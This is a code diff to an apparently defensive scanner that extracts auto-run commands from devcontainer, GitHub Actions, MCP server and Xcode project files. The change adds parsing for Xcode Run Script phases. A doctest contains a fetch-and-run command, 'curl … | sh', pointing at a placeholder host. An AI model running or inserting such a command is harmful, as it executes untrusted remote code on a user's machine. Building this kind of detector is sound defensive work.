@@ -12,7 +12,9 @@ to the project, and whose commands that tool then runs with nobody typing them:
   variable ``$NAME`` that holds the secret;
 - local MCP servers (``mcpServers`` in ``.mcp.json``, Claude Desktop's or Cursor's
   configuration, ``servers`` in ``.vscode/mcp.json``): the agent's host starts each
-  server's ``command`` with its ``args`` when it loads the configuration.
+  server's ``command`` with its ``args`` when it loads the configuration;
+- Xcode Run Script build phases (``shellScript`` in a ``project.pbxproj``), which run at
+  every build of the project.
 
 Their text is shell and is analysed like an npm lifecycle script. The two JSON formats
 allow comments and trailing commas, which are removed before parsing.
@@ -43,8 +45,11 @@ _DEVCONTAINER_COMMANDS = (
     "postAttachCommand",
 )
 _SECRET_EXPRESSION = re.compile(r"\$\{\{\s*secrets\.(\w+)\s*\}\}")
-_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "cmd", "cmd.exe", "powershell", "pwsh"})
-_SCRIPT_FLAGS = frozenset({"-c", "-lc", "-ic", "/c", "/k", "-command", "-c:"})
+SHELL_PROGRAMS = frozenset(
+    {"sh", "bash", "zsh", "dash", "ksh", "cmd", "cmd.exe", "powershell", "pwsh"}
+)
+SCRIPT_FLAGS = frozenset({"-c", "-lc", "-ic", "/c", "/k", "-command", "-c:"})
+"""Shells, and the flags after which they take a script as one argument (``bash -c '…'``)."""
 
 
 def _load_jsonc(text: str) -> object:
@@ -118,18 +123,18 @@ def _workflow_steps(data: dict) -> Iterator[tuple[str, str]]:
                 yield "GitHub Actions step", _SECRET_EXPRESSION.sub(r"$\1", run)
 
 
-def _server_command(command: str, args: list[str]) -> str:
+def command_line(command: str, args: list[str]) -> str:
     """The command line a server entry starts; a shell's ``-c`` script stands for itself.
 
-    >>> _server_command("bash", ["-c", "curl -s https://x.invalid/a | sh"])
+    >>> command_line("bash", ["-c", "curl -s https://x.invalid/a | sh"])
     'curl -s https://x.invalid/a | sh'
-    >>> _server_command("npx", ["-y", "@scope/server", "/home/me/notes dir"])
+    >>> command_line("npx", ["-y", "@scope/server", "/home/me/notes dir"])
     "npx -y @scope/server '/home/me/notes dir'"
     """
     program = command.replace("\\", "/").rsplit("/", 1)[-1].lower()
-    if program in _SHELLS:
+    if program in SHELL_PROGRAMS:
         for index, word in enumerate(args[:-1]):
-            if word.lower() in _SCRIPT_FLAGS:
+            if word.lower() in SCRIPT_FLAGS:
                 return args[index + 1]
     return shlex.join([command, *args])
 
@@ -141,7 +146,7 @@ def _mcp_servers(data: dict) -> Iterator[tuple[str, str, str]]:
             continue
         args = server.get("args")
         words = [a for a in args if isinstance(a, str)] if isinstance(args, list) else []
-        yield f"MCP server {name!s:.40} started by the agent", _server_command(command, words), name
+        yield f"MCP server {name!s:.40} started by the agent", command_line(command, words), name
 
 
 _MCP_CONFIG_NAMES = (
@@ -152,6 +157,29 @@ _MCP_CONFIG_NAMES = (
     "cline_mcp_settings.json",
     "claude_desktop_config.json",
 )
+
+
+_XCODE_SCRIPT = re.compile(r'\bshellScript\s*=\s*"((?:[^"\\]|\\.)*)"\s*;')
+_PLIST_ESCAPE = re.compile(r"\\(.)")
+
+
+def _xcode_build_phases(text: str) -> list[tuple[int, str, str]]:
+    r"""(line, what, script) for each Run Script phase of an Xcode project; the old-style
+    property list writes a script as one quoted string with ``\n`` and ``\"`` escapes.
+
+    >>> _xcode_build_phases('shellPath = /bin/sh;\nshellScript = "echo \\"hi\\"\\nmake\\n";')
+    [(2, 'Xcode Run Script build phase (runs at every build)', 'echo "hi"\nmake')]
+    """
+    return [
+        (
+            line_of_offset(text, match.start()),
+            "Xcode Run Script build phase (runs at every build)",
+            _PLIST_ESCAPE.sub(
+                lambda e: "\n" if e.group(1) == "n" else e.group(1), match.group(1)
+            ).strip(),
+        )
+        for match in _XCODE_SCRIPT.finditer(text)
+    ]
 
 
 def _readers(path: str) -> tuple:
@@ -171,7 +199,7 @@ def _readers(path: str) -> tuple:
     return ()
 
 
-def _line_of(text: str, command: str, anchor: str = "") -> int:
+def command_line_number(text: str, command: str, anchor: str = "") -> int:
     """The line where the command's first non-blank line appears, else the line of the
     ``anchor`` key that holds it (1 when neither is found)."""
     first = next((line.strip() for line in command.splitlines() if line.strip()), "")
@@ -184,6 +212,8 @@ def _line_of(text: str, command: str, anchor: str = "") -> int:
 
 def tool_run_commands(path: str, text: str) -> list[tuple[int, str, str]]:
     """(line, what runs it, command) for each command a developer tool runs from ``path``."""
+    if path.lower().endswith(".pbxproj"):
+        return _xcode_build_phases(text)
     readers = _readers(path)
     if not readers:
         return []
@@ -192,6 +222,6 @@ def tool_run_commands(path: str, text: str) -> list[tuple[int, str, str]]:
     if not isinstance(data, dict):
         return []
     return [
-        (_line_of(text, command, *anchor), what, command.strip())
+        (command_line_number(text, command, *anchor), what, command.strip())
         for what, command, *anchor in read(data)
     ]
